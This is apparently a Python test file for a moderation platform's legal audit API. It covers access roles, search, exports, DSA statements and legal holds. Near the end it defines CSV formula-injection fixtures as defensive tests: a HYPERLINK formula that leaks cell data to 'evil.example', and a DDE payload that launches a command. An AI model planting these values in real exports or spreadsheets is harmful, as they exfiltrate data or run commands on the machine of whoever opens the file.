"""Legal's API over the database log: who may use it, search, aggregations, exports."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from audit.events import Action
from audit.export import FORMULA_STARTS, csv_cell
from audit.models import AuditEvent
from core.actors import Actor
from core.db import transaction
from core.dispatch import InProcessDispatcher
from pipeline.platform_receiver import ReceiverState
from runtime.container import Runtime
from tests.audit.factories import write_events
from tests.conftest import auth, claim_and_decide, new_api_key, new_user_token, wait_for
from tests.pipeline.factories import make_case
from tests.statements.helpers import add_messaging_outage

ENDPOINTS = [
    ("GET", "/v1/audit/events"),
    ("GET", "/v1/audit/aggregations"),
    ("GET", "/v1/audit/export"),
    ("GET", "/v1/audit/dsa/statements"),
    ("POST", "/v1/audit/verify"),
    ("GET", "/v1/audit/holds"),
    ("GET", "/v1/audit/lag"),
]


@pytest.mark.parametrize("role", ["reviewer", "senior_reviewer", "pr"])
def test_other_roles_are_refused(rt: Runtime, client: TestClient, role: str) -> None:
    headers = auth(new_user_token(rt, role))
    for method, path in ENDPOINTS:
        resp = client.request(method, path, headers=headers)
        assert resp.status_code == 403, (role, path)


def test_platform_keys_and_anonymous_callers_are_refused(rt: Runtime, client: TestClient) -> None:
    key = new_api_key(rt, ("score", "read", "webhooks"))
    for method, path in ENDPOINTS:
        assert client.request(method, path, headers=auth(key)).status_code == 403, path
        assert client.request(method, path).status_code == 401, path


@pytest.mark.parametrize("role", ["legal", "admin"])
def test_legal_and_admin_search_by_post_action_and_text(
    rt: Runtime, client: TestClient, role: str
) -> None:
    write_events(rt, 3, post_prefix="x")
    write_events(rt, 2, post_prefix="y", reason="misleading_context: cropped chart")
    headers = auth(new_user_token(rt, role))
    by_post = client.get("/v1/audit/events", params={"post_id": "x1"}, headers=headers).json()
    assert by_post["total"] == 1
    assert by_post["events"][0]["veracity"]["post_id"] == "x1"
    by_text = client.get("/v1/audit/events", params={"q": "CROPPED chart"}, headers=headers)
    assert by_text.json()["total"] == 2
    by_action = client.get(
        "/v1/audit/events", params={"action": "case.decided", "actor": "rita"}, headers=headers
    )
    assert by_action.json()["total"] == 5


def test_search_pages_with_a_cursor_without_repeats(rt: Runtime, client: TestClient) -> None:
    write_events(rt, 7)
    headers = auth(new_user_token(rt, "legal"))
    seen: list[str] = []
    cursor: str | None = None
    for _ in range(10):
        params: dict[str, str | int] = {"action": "case.decided", "size": 3}
        if cursor:
            params["cursor"] = cursor
        page = client.get("/v1/audit/events", params=params, headers=headers).json()
        seen += [e["event"]["id"] for e in page["events"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert len(seen) == 7 == len(set(seen))


def test_bad_filters_get_a_clear_422(rt: Runtime, client: TestClient) -> None:
    headers = auth(new_user_token(rt, "legal"))
    resp = client.get("/v1/audit/events", params={"action": "post.vanished"}, headers=headers)
    assert resp.status_code == 422
    assert resp.json()["error"]["code"] == "bad_filter"
    assert "'post.vanished'" in resp.json()["error"]["message"]
    assert "known actions: post.scored, " in resp.json()["error"]["message"]
    naive = client.get("/v1/audit/events", params={"since": "2026-01-01T00:00:00"}, headers=headers)
    assert naive.status_code == 422
    assert naive.json()["error"]["code"] == "bad_filter"
    assert "timezone" in naive.json()["error"]["message"]
    # its UTC instant is before the year 1: refused, not a 500 from the database driver
    early = client.get(
        "/v1/audit/events", params={"since": "0001-01-01T00:00:00+14:00"}, headers=headers
    )
    assert early.status_code == 422
    assert "outside the range of a UTC datetime" in early.json()["error"]["message"]
    bad_cursor = client.get("/v1/audit/events", params={"cursor": "nope"}, headers=headers)
    assert bad_cursor.status_code == 422


def test_searches_are_logged(rt: Runtime, client: TestClient) -> None:
    client.get(
        "/v1/audit/events", params={"post_id": "p1"}, headers=auth(new_user_token(rt, "legal"))
    )
    with rt.sessions() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == Action.LOG_SEARCHED)).one()
    assert event.post_id == "p1"


def test_aggregations_are_logged_like_searches(rt: Runtime, client: TestClient) -> None:
    """Counts for a post, a case or an actor tell what was done to them: asking is logged."""
    write_events(rt, 3, post_prefix="agg")
    resp = client.get(
        "/v1/audit/aggregations",
        params={"post_id": "agg1", "action": "case.decided"},
        headers=auth(new_user_token(rt, "legal", username="lena")),
    )
    assert resp.status_code == 200 and resp.json()["total"] == 1
    with rt.sessions() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == Action.LOG_SEARCHED)).one()
    assert (event.actor_name, event.post_id) == ("lena", "agg1")
    after: Any = event.document["veracity"]["after"]  # type: ignore[index]
    assert after["filters"] == {"post_id": "agg1", "actions": ["case.decided"]}
    assert after["total"] == 1


def test_aggregations_count_by_action_and_automation_without_drills(
    rt: Runtime, client: TestClient
) -> None:
    write_events(rt, 4)
    write_events(
        rt, 3, action=Action.POST_SCORED, actor=Actor.system("scorer"), policy_version=None
    )
    write_events(rt, 5, is_drill=True)
    aggs = client.get(
        "/v1/audit/aggregations",
        params={"action": ["case.decided", "post.scored"]},
        headers=auth(new_user_token(rt, "legal")),
    ).json()
    assert aggs["total"] == 7
    assert {b["key"]: b["count"] for b in aggs["by_action"]} == {
        "case.decided": 4,
        "post.scored": 3,
    }
    assert {b["key"]: b["count"] for b in aggs["by_policy"]} == {"policy-7": 4, "none": 3}
    assert (aggs["automated"], aggs["human"]) == (3, 4)


def test_ndjson_export_matches_the_source_its_manifest_and_is_logged(
    rt: Runtime, client: TestClient
) -> None:
    write_events(rt, 30)
    write_events(rt, 4, is_drill=True)
    headers = auth(new_user_token(rt, "legal", username="lena"))
    resp = client.get("/v1/audit/export", params={"action": "case.decided"}, headers=headers)
    assert resp.status_code == 200
    assert resp.headers["cache-control"] == "no-store", "legal records are never cached"
    lines = resp.content.splitlines()
    assert len(lines) == 30, "drills stay out unless asked for"
    seqs = [json.loads(line)["veracity"]["chain"]["seq"] for line in lines]
    assert seqs == sorted(seqs)
    manifest = client.get(resp.headers["x-export-manifest"], headers=headers).json()
    assert manifest["count"] == 30
    assert manifest["sha256"] == hashlib.sha256(resp.content).hexdigest()
    assert manifest["bytes"] == len(resp.content)
    with rt.sessions() as s:
        logged = s.scalars(select(AuditEvent).where(AuditEvent.action == Action.LOG_EXPORTED)).one()
    assert logged.actor_name == "lena"
    with_drills = client.get(
        "/v1/audit/export",
        params={"action": "case.decided", "include_drills": True},
        headers=headers,
    )
    assert len(with_drills.content.splitlines()) == 34


def test_reading_an_export_manifest_is_logged_as_on_the_legal_desk(
    rt: Runtime, client: TestClient
) -> None:
    write_events(rt, 2)
    headers = auth(new_user_token(rt, "legal", username="lena"))
    resp = client.get("/v1/audit/export", headers=headers)
    export_id = resp.headers["x-export-id"]
    assert client.get(resp.headers["x-export-manifest"], headers=headers).status_code == 200
    with rt.sessions() as s:
        read = s.scalars(select(AuditEvent).where(AuditEvent.action == Action.LOG_SEARCHED)).one()
    assert read.actor_name == "lena"
    assert read.document["veracity"]["subject"] == {"export_id": export_id}  # type: ignore[index]


def test_csv_export_has_one_row_per_event(rt: Runtime, client: TestClient) -> None:
    write_events(rt, 12, reason='quote "this", and a\nnewline')
    resp = client.get(
        "/v1/audit/export",
        params={"format": "csv", "action": "case.decided"},
        headers=auth(new_user_token(rt, "admin")),
    )
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert len(rows) == 12
    assert rows[0]["veracity.reason"] == 'quote "this", and a\nnewline'
    assert rows[0]["user.name"] == "rita"


def test_dsa_statements_come_in_batches_of_at_most_100(rt: Runtime, client: TestClient) -> None:
    write_events(rt, 150)
    write_events(
        rt, 5, post_prefix="geo", after={"action": "geo_restrict", "territories": ["DE", "US"]}
    )
    write_events(rt, 7, post_prefix="kept", after={"action": "no_action"})
    resp = client.get("/v1/audit/dsa/statements", headers=auth(new_user_token(rt, "legal")))
    batches = [json.loads(line)["statements"] for line in resp.content.splitlines()]
    assert [len(b) for b in batches] == [100, 55]
    first = batches[0][0]
    assert first["decision_visibility"] == ["DECISION_VISIBILITY_CONTENT_REMOVED"]
    assert first["automated_decision"] == "AUTOMATED_DECISION_NOT_AUTOMATED"
    assert first["content_type"] == ["CONTENT_TYPE_TEXT"]
    assert first["content_date"] <= first["application_date"]
    for key in (
        "decision_ground",
        "category",
        "decision_facts",
        "automated_detection",
        "territorial_scope",
        "source_type",
        "puid",
    ):
        assert first[key], key
    geo = [
        s
        for s in batches[1]
        if s["decision_visibility"] == ["DECISION_VISIBILITY_CONTENT_DISABLED"]
    ]
    assert len(geo) == 5 and geo[0]["territorial_scope"] == ["DE"]


def test_statements_of_reasons_keep_to_the_actions_asked_for(
    rt: Runtime, client: TestClient
) -> None:
    """The action filter narrows the statements as it narrows a search: it was replaced by
    every restricting action, so a filter on post.scored still handed over every removal."""
    write_events(rt, 3)
    headers = auth(new_user_token(rt, "legal"))

    def statements(action: str) -> int:
        resp = client.get("/v1/audit/dsa/statements", params={"action": action}, headers=headers)
        assert resp.status_code == 200
        return sum(len(json.loads(line)["statements"]) for line in resp.content.splitlines())

    assert statements("case.decided") == 3
    assert statements("post.scored") == 0  # scoring restricts nothing
    assert statements("case.decision_corrected") == 0


def test_statements_of_reasons_broken_off_are_logged_with_what_went_out(rt: Runtime) -> None:
    """A download that stops after its first line (the client went away) still handed 100
    statements over: logged, as a partial export is, not left out of the log."""
    from audit.operations import dsa_statement_lines
    from audit.schemas import SearchFilters

    write_events(rt, 250)
    lines = dsa_statement_lines(rt, SearchFilters(), Actor.system("test-legal"))
    first = next(lines)
    assert len(json.loads(first)["statements"]) == 100
    lines.close()
    with rt.sessions() as s:
        logged = s.scalars(
            select(AuditEvent).where(AuditEvent.action == Action.DSA_STATEMENTS_EXPORTED)
        ).one()
    after: Any = logged.document["veracity"]["after"]  # type: ignore[index]
    assert (after["statements"], after["completed"]) == (100, False)


def test_holds_are_set_listed_released_and_logged(rt: Runtime, client: TestClient) -> None:
    headers = auth(new_user_token(rt, "legal"))
    with transaction(rt.sessions) as session:
        incident_id = add_messaging_outage(session, "outage:inc-9", 2).id
    made = client.post(
        "/v1/audit/holds",
        json={"subject_type": "incident", "subject_id": incident_id, "reason": "regulator request"},
        headers=headers,
    )
    assert made.status_code == 201
    again = client.post(
        "/v1/audit/holds",
        json={"subject_type": "incident", "subject_id": incident_id, "reason": "twice"},
        headers=headers,
    )
    assert again.status_code == 409
    assert [
        h["subject_id"] for h in client.get("/v1/audit/holds", headers=headers).json()["holds"]
    ] == [incident_id]
    released = client.post(
        f"/v1/audit/holds/{made.json()['id']}/release",
        json={"reason": "matter closed"},
        headers=headers,
    )
    assert released.status_code == 200
    assert client.get("/v1/audit/holds", headers=headers).json()["holds"] == []
    with rt.sessions() as s:
        actions = set(s.scalars(select(AuditEvent.action)))
    assert {"log.legal_hold_set", "log.legal_hold_released"} <= actions


@pytest.mark.parametrize("kind", ["case", "incident", "post"])
def test_a_hold_on_a_mistyped_id_is_refused_with_404_and_nothing_is_held(
    rt: Runtime, client: TestClient, kind: str
) -> None:
    headers = auth(new_user_token(rt, "legal"))
    made = client.post(
        "/v1/audit/holds",
        json={"subject_type": kind, "subject_id": "typo-42", "reason": "subpoena 12"},
        headers=headers,
    )
    assert made.status_code == 404
    error = made.json()["error"]
    assert (error["code"], error["message"]) == ("not_found", f"no {kind} typo-42 to hold")
    assert client.get("/v1/audit/holds", headers=headers).json()["holds"] == []
    with rt.sessions() as s:
        assert "log.legal_hold_set" not in set(s.scalars(select(AuditEvent.action)))


def _dsa_content_dates(client: TestClient, token: str) -> dict[str, str]:
    resp = client.get("/v1/audit/dsa/statements", headers=auth(token))
    statements = [s for line in resp.content.splitlines() for s in json.loads(line)["statements"]]
    return {s["puid"]: s["content_date"] for s in statements}


def test_a_statements_content_date_is_when_the_platform_says_the_post_was_made(
    rt: Runtime, client: TestClient
) -> None:
    from datetime import UTC, datetime, timedelta

    posted = datetime.now(UTC) - timedelta(days=9)
    write_events(
        rt, 1, action=Action.POST_SCORED, post_prefix="old", after={"posted_at": posted.isoformat()}
    )
    write_events(rt, 1, action=Action.POST_SCORED, post_prefix="new", after={"posted_at": None})
    write_events(rt, 1, post_prefix="old")  # the removals
    write_events(rt, 1, post_prefix="new")
    dates = sorted(_dsa_content_dates(client, new_user_token(rt, "legal")).values())
    today = datetime.now(UTC).date().isoformat()
    assert dates == [posted.date().isoformat(), today]  # no date sent: the first mention


def test_scoring_logs_the_posts_own_date_for_later_statements(
    rt: Runtime, client: TestClient, platform_key: str
) -> None:
    post = {"id": "dated-1", "text": "A post", "created_at": "2026-01-02T03:04:05Z"}
    assert (
        client.post("/v1/score", json={"posts": [post]}, headers=auth(platform_key)).status_code
        == 200
    )
    with rt.sessions() as s:
        doc = s.scalars(
            select(AuditEvent.document).where(
                AuditEvent.post_id == "dated-1", AuditEvent.action == "post.scored"
            )
        ).one()
    assert doc["veracity"]["after"]["posted_at"] == "2026-01-02T03:04:05+00:00"  # type: ignore[index]


PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_an_appeal_reason_planted_as_a_formula_exports_as_inert_text(
    rt: Runtime,
    pipeline: InProcessDispatcher,
    client: TestClient,
    receiver: tuple[ReceiverState, str],
) -> None:
    """An outside author writes the appeal reason; legal opens the export in a spreadsheet."""
    make_case(rt.sessions, post_id="csv-1")
    claim_and_decide(
        rt, client, {"reason_code": "false_claim", "action": "remove", "note": "debunked"}
    )
    pipeline.drain()
    wait_for(lambda: len(receiver[0].actions_applied()) == 1)
    author = auth(new_api_key(rt, ("score",)))
    appealed = client.post("/v1/posts/csv-1/appeal", json={"reason": PLANTED}, headers=author)
    assert appealed.status_code == 200, appealed.text
    resp = client.get(
        "/v1/audit/export",
        params={"format": "csv", "post_id": "csv-1"},
        headers=auth(new_user_token(rt, "legal")),
    )
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    reasons = [row["veracity.reason"] for row in rows]
    assert "'" + PLANTED in reasons  # shown as the text it is, the rest byte-exact
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" \t\r\n").startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize(
    ("reason", "exported"),
    [
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1;1)", "'@SUM(1;1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),
        ("\n @x", "'\n @x"),
        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),
        ("a = b + c - d @ e", "a = b + c - d @ e"),  # only the start matters
        ("'already quoted", "'already quoted"),
    ],
)
def test_every_formula_start_is_neutralised_in_the_csv(
    rt: Runtime, client: TestClient, reason: str, exported: str
) -> None:
    write_events(rt, 1, reason=reason)
    resp = client.get(
        "/v1/audit/export",
        params={"format": "csv", "action": "case.decided"},
        headers=auth(new_user_token(rt, "legal")),
    )
    rows = list(csv.reader(io.StringIO(resp.text, newline="")))
    column = rows[0].index("veracity.reason")
    assert rows[1][column] == exported


def test_numbers_and_json_cells_are_left_as_they_are() -> None:
    assert csv_cell(-0.5) == "-0.5" and csv_cell(3) == "3" and csv_cell(True) == "true"
    assert csv_cell({"a": "=1"}) == '{"a": "=1"}'
    assert csv_cell(["-admin", "legal"]) == "'-admin;legal"


def test_a_carriage_return_in_a_cell_does_not_split_the_row(
    rt: Runtime, client: TestClient
) -> None:
    write_events(rt, 2, reason="fine\r,forged,row")
    resp = client.get(
        "/v1/audit/export",
        params={"format": "csv", "action": "case.decided"},
        headers=auth(new_user_token(rt, "legal")),
    )
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    assert [row["veracity.reason"] for row in rows] == ["fine\r,forged,row"] * 2


def test_the_lag_on_the_embedded_default_says_nothing_is_shipped(
    rt: Runtime, client: TestClient
) -> None:
    """With the log kept in the database there is nothing to ship, so nothing lags (it used to
    count every event ever written as waiting)."""
    write_events(rt, 5)
    resp = client.get("/v1/audit/lag", headers=auth(new_user_token(rt, "legal")))
    assert resp.status_code == 200
    assert resp.json() == {"ships": False, "unshipped": 0, "oldest_age_seconds": 0.0}
